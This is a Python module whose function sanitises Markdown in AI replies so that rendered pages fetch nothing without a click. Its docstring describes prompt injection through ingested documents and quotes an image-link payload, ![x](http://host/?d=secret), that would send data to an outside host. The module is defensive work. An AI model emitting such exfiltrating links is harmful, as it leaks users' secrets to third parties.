"""Reply text made safe to show: Markdown that loads nothing by itself.

A reply (or a message) may carry text a model was misled into writing by an ingested document:
`![x](http://host/?d=secret)`, `<img src>`, `<video poster>`, `<iframe>`. The page must not fetch
any of it without a click. So raw HTML is escaped (shown as text), images become their URL as
text, and a link shows its real URL next to its words; the page links URLs, and only a click opens one.
"""

from __future__ import annotations

import re
from html import escape

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)\n]*)?\)")
_LINK = re.compile(r"(?<!\\)\[([^\]\n]+)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)\n]*)?\)")
_REFERENCE = re.compile(r"^(\s{0,3})\[([^\]\n]+)\]:", re.MULTILINE)  # [id]: http://... definitions
_REF_IMAGE = re.compile(r"!\[")


def safe_markdown(text: str) -> str:
    """`text` as Markdown without HTML, images or hidden link targets."""
    text = escape(text or "", quote=False)
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1).strip() or 'no description'}] {m.group(2)}", text)
    text = _LINK.sub(lambda m: m.group(1) if m.group(1).strip() == m.group(2) else f"{m.group(1)} ({m.group(2)})", text)
    text = _REFERENCE.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}\\]:", text)
    return _REF_IMAGE.sub(r"!\\[", text)
